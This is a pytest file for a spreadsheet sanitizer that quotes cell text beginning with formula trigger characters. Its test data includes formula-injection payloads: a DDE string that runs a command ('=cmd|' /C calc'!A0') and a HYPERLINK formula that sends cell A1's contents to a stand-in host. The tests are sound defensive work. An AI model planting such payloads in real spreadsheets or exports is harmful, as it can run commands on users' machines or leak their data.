"""Text that a spreadsheet would run as a formula is written as text; everything else goes in unchanged."""

from __future__ import annotations

from datetime import date

import pytest

from shared.spreadsheet import FORMULA_TRIGGERS, safe_text

HOSTILE = [
    '=HYPERLINK("http://x"&A1,"click")',
    "+SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_text(text) == "'" + text


def test_every_trigger_of_owasp_is_covered() -> None:
    assert {text[0] for text in HOSTILE} == set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "text",
    ["", "Shanghai integrated circuits", "上海市集成电路", "a=b", "C1.1", "'=already text", " =1", "\n=1", "x-1"],
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert safe_text(text) == text


@pytest.mark.parametrize("number", [0, 3, -3, 0.5, -0.5, -0.0, 1e-9, -1e12, True])
def test_numbers_stay_numbers(number: float) -> None:
    result = safe_text(number)
    assert result == number
    assert type(result) is type(number)


def test_other_values_are_unchanged() -> None:
    day = date(2024, 3, 15)
    assert safe_text(None) is None
    assert safe_text(day) is day
